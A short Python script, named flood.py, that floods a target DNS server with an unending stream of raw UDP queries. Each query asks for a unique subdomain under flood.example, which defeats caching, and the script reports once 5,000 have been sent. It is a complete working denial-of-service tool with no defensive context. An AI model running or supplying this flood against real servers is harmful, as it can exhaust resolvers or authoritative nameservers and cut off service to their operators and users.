"""Asks a server for ever new names as fast as it can, until it is ended: flood.py SERVER. Says when 5000 are sent."""

import socket
import sys

client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
client.connect((sys.argv[1], 53))
number = 0
while True:
    try:
        client.send(b"\x12\x34\1\0\0\1\0\0\0\0\0\0\x10%016x\5flood\7example\0\0\1\0\1" % number)
    except OSError:
        pass
    number += 1
    if number == 5000:
        print("flooding", flush=True)
